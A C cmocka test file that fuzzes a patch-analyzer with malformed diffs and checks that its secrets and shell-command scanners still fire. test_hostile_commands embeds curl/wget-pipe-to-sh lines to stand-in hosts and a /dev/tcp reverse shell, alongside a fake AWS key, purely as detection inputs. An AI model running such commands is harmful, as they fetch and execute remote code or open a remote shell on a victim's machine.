/*
 * test_hostile.c: hostile and malformed patches through every analyzer core:
 * random bytes, a 1 MiB line, NUL bytes, endless continuations, unterminated
 * quotes and triple-quoted strings, broken and oversized hunk headers, badly
 * quoted and over-long paths, thousands of files. Every scan must finish with
 * 0 (memory errors are caught by the ASan/UBSan build), be deterministic,
 * keep every finding inside the output contract, and still find the secret
 * hidden at the end of a huge line. The same bytes also go through every
 * analyzer's job-command scanner, and commands built to hide curl|sh or a
 * reverse shell (huge line, 100000 lines, endless continuation) are caught.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "an_text.h"
#include "analyzers.h"

typedef struct {
    size_t n;
    size_t bad;
    int saw_aws;
} tally_t;

static int tally(void *ud, const an_finding_t *f)
{
    tally_t *t = ud;
    t->n++;
    if (!f->rule_id || !f->message || !f->file || f->evidence_len > AN_EVIDENCE_MAX ||
        (f->evidence_len && !f->evidence) || (unsigned)f->severity > AN_SEV_CRITICAL)
        t->bad++;
    if (f->rule_id && strcmp(f->rule_id, "secrets.aws_access_key") == 0)
        t->saw_aws = 1;
    return 0;
}

/* Runs every analyzer twice; returns the findings of the secrets analyzer. */
static tally_t run_all(const char *buf, size_t len)
{
    tally_t secrets = {0};
    for (size_t a = 0; a < analyzer_entries_count; a++) {
        tally_t t1 = {0}, t2 = {0};
        int rc1 = analyzer_run_patch(&analyzer_entries[a], buf, len, tally, &t1);
        int rc2 = analyzer_run_patch(&analyzer_entries[a], buf, len, tally, &t2);
        assert_true(rc1 == 0 || rc1 == ANALYZER_UNPARSED);   /* hostile bytes need not parse */
        assert_int_equal(rc1, rc2);
        assert_int_equal(t1.n, t2.n);
        assert_int_equal(t1.bad, 0);
        if (strcmp(analyzer_entries[a].name, "secrets") == 0)
            secrets = t1;
        if (!analyzer_entries[a].analyzer->command)
            continue;
        /* the same bytes as a job command (the text the shell would see) */
        tally_t c1 = {0}, c2 = {0};
        assert_int_equal(analyzer_entries[a].analyzer->command(buf, len, "job:test", tally, &c1), 0);
        assert_int_equal(analyzer_entries[a].analyzer->command(buf, len, "job:test", tally, &c2), 0);
        assert_int_equal(c1.n, c2.n);
        assert_int_equal(c1.bad, 0);
    }
    return secrets;
}

static uint64_t s_rng = 0x9e3779b97f4a7c15ull;

static uint64_t rnd(void)
{
    s_rng ^= s_rng << 13;
    s_rng ^= s_rng >> 7;
    s_rng ^= s_rng << 17;
    return s_rng;
}

static void test_random_bytes(void **s)
{
    static const char *const pieces[] = {
        "diff --git a/x b/x\n", "--- a/x\n", "+++ b/x\n", "@@ -1,3 +1,4 @@\n", "+", "-", " ",
        "\n", "\"", "'", "'''", "\\", "$(", "`", "|", " sh", "curl ", "rm -rf /", "AKIA",
        "new file mode 120000\n", "old mode 100644\n", "new mode 160000\n", "rename from ",
        "\"a/\\377\\", "${{ github.event.x }}", "uses: a/b@v1", "eval(", "yaml.load(",
        "password = '", "-----BEGIN ", "\0", "\r\n", "run: |\n", "  ", "#!/bin/sh\n",
    };
    size_t np = sizeof pieces / sizeof pieces[0];
    char *buf = malloc(1 << 16);
    (void)s;
    assert_non_null(buf);
    for (int round = 0; round < 300; round++) {
        size_t len = 0;
        while (len < (1 << 16) - 64) {
            uint64_t r = rnd();
            if (r % 3 == 0) {
                buf[len++] = (char)(r >> 8);
            } else {
                const char *p = pieces[(r >> 8) % np];
                size_t m = p[0] ? strlen(p) : 1;
                memcpy(buf + len, p, m);
                len += m;
            }
            if ((r >> 40) % 97 == 0)
                break;
        }
        run_all(buf, len);
    }
    free(buf);
}

static void test_huge_line_secret_at_end(void **s)
{
    size_t pad = 1u << 20;
    const char *hdr = "diff --git a/a.sh b/a.sh\nnew file mode 100644\n--- /dev/null\n"
                      "+++ b/a.sh\n@@ -0,0 +1 @@\n+";
    const char *tail = " KEY=AKIAQ3EGUJ7ZK5RVPX2M\n";
    size_t hl = strlen(hdr), tl = strlen(tail);
    char *buf = malloc(hl + pad + tl);
    tally_t t;
    (void)s;
    assert_non_null(buf);
    memcpy(buf, hdr, hl);
    for (size_t i = 0; i < pad; i++)
        buf[hl + i] = "a \\'\"|$(x=:-"[i % 12];
    memcpy(buf + hl + pad, tail, tl);
    t = run_all(buf, hl + pad + tl);
    assert_true(t.saw_aws);
    free(buf);
}

/* Whether the model libgit2 built holds an added line with the key. */
static int model_has_key(const char *patch, size_t len)
{
    plugin_view_t *v = NULL;
    int has = 0;
    assert_int_equal(analyzer_view(&v, patch, len), 0);
    const airlock_input_t *in = plugin_view_input(v);
    for (uint32_t i = 0; i < in->n_files; i++)
        for (uint32_t k = 0; k < in->files[i].n_added; k++)
            has |= an_find(in->files[i].added[k].text, in->files[i].added[k].len, "AKIAQ3EGUJ7ZK5RVPX2M") !=
                   (size_t)-1;
    plugin_view_destroy(&v);
    return has;
}

/* Broken headers: there is no lenient second parser any more. Whatever
 * libgit2 makes of the patch (gitops applies exactly that) is what the
 * analyzers see: the key is reported exactly when libgit2 reads it as an
 * added line, and a patch libgit2 refuses is refused at apply too. */
static void test_malformed_headers(void **s)
{
    static const char *const cases[] = {
        "@@ -99999999999999999999,1 +1 @@\n+AKIAQ3EGUJ7ZK5RVPX2M\n",
        "diff --git \"a/unterminated\n+AKIAQ3EGUJ7ZK5RVPX2M\n",
        "diff --git a/x b/x\nnew file mode 777777777777777777777\n+++ b/x\n@@ -0,0 +1 @@\n+AKIAQ3EGUJ7ZK5RVPX2M\n",
        "--- a/x\n+++ b/x\n@@ -1,0 +1,0 @@\n+AKIAQ3EGUJ7ZK5RVPX2M\n",
        "+AKIAQ3EGUJ7ZK5RVPX2M",
        "diff --git a/x b/x\n@@ -1 +1 @@\n\\ No newline\n+AKIAQ3EGUJ7ZK5RVPX2M\n",
        "diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1 +1,1 @@\n-a\n+b\n+AKIAQ3EGUJ7ZK5RVPX2M\n",
        "diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1 +1,2 @@\n-a\n+b\n+AKIAQ3EGUJ7ZK5RVPX2M\n",
    };
    int seen = 0;
    (void)s;
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        tally_t t = run_all(cases[i], strlen(cases[i]));
        int has = model_has_key(cases[i], strlen(cases[i]));
        if (t.saw_aws != has)
            fail_msg("case %zu: key reported %d, in libgit2's model %d", i, t.saw_aws, has);
        seen += has;
    }
    assert_true(seen >= 1); /* the well-formed case */
}

static void test_long_paths_and_many_files(void **s)
{
    size_t cap = 8u << 20, len = 0;
    char *buf = malloc(cap);
    char path[5000];
    (void)s;
    assert_non_null(buf);
    memset(path, 'p', sizeof path - 1);
    path[sizeof path - 1] = '\0';
    len += (size_t)snprintf(buf + len, cap - len, "diff --git a/%s b/%s\n--- a/%s\n+++ b/%s\n"
                            "@@ -1 +1 @@\n-a\n+b\n", path, path, path, path);
    for (int i = 0; i < 20000 && len + 256 < cap; i++)
        len += (size_t)snprintf(buf + len, cap - len,
                                "diff --git a/f%d b/f%d\nnew file mode 120000\n--- /dev/null\n"
                                "+++ b/f%d\n@@ -0,0 +1 @@\n+../../x%d\n", i, i, i, i);
    run_all(buf, len);
    free(buf);
}

static void test_endless_continuation_and_strings(void **s)
{
    size_t n = 200000, len = 0;
    char *buf = malloc(n * 8 + 256);
    (void)s;
    assert_non_null(buf);
    len += (size_t)sprintf(buf, "diff --git a/x.sh b/x.sh\nnew file mode 100644\n--- /dev/null\n"
                                "+++ b/x.sh\n@@ -0,0 +1,%zu @@\n", n);
    for (size_t i = 0; i < n; i++) {
        memcpy(buf + len, i % 2 ? "+a '\\\n" : "+\"\"\"\\\n", 6);
        len += 6;
    }
    run_all(buf, len);
    free(buf);
}

typedef struct {
    char rule[64];
    unsigned line;
    size_t n;
} last_t;

static int last(void *ud, const an_finding_t *f)
{
    last_t *l = ud;
    snprintf(l->rule, sizeof l->rule, "%s", f->rule_id);
    l->line = f->line;
    l->n++;
    return 0;
}

/* Job commands built to hide: curl|sh after 1 MiB on one line, a reverse
 * shell on the last of 100000 script lines, a pipe into sh after thousands
 * of continued lines. Each is still found, on the right line. */
static void test_hostile_commands(void **s)
{
    const an_analyzer_t *sh = analyzer_entry_find("shell")->analyzer;
    size_t cap = 4u << 20, len = 0;
    char *buf = malloc(cap);
    last_t l = {0};
    (void)s;
    assert_non_null(buf);
    while (len < (1u << 20))
        len += (size_t)sprintf(buf + len, "true; ");
    len += (size_t)sprintf(buf + len, "curl -s https://x.example/i | sh");
    assert_int_equal(sh->command(buf, len, "job:run[0]", last, &l), 0);
    assert_string_equal(l.rule, "shell.curl_pipe_shell");
    assert_int_equal(l.line, 0);
    memset(&l, 0, sizeof l);
    len = 0;
    for (int i = 0; i < 99999; i++)
        len += (size_t)sprintf(buf + len, "echo %d\n", i);
    len += (size_t)sprintf(buf + len, "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\r\n\n");
    assert_int_equal(sh->command(buf, len, "job:test", last, &l), 0);
    assert_int_equal(l.n, 1);
    assert_string_equal(l.rule, "shell.reverse_shell");
    assert_int_equal(l.line, 100000);
    memset(&l, 0, sizeof l);
    len = (size_t)sprintf(buf, "wget -qO- https://x.example/a \\\n");
    for (int i = 0; i < 5000; i++)
        len += (size_t)sprintf(buf + len, "  --header 'X-%d: y' \\\n", i);
    len += (size_t)sprintf(buf + len, "  | sh\n");
    assert_int_equal(sh->command(buf, len, "job:test", last, &l), 0);
    assert_string_equal(l.rule, "shell.curl_pipe_shell");
    assert_int_equal(l.line, 1);
    free(buf);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_random_bytes),
        cmocka_unit_test(test_huge_line_secret_at_end),
        cmocka_unit_test(test_malformed_headers),
        cmocka_unit_test(test_long_paths_and_many_files),
        cmocka_unit_test(test_endless_continuation_and_strings),
        cmocka_unit_test(test_hostile_commands),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
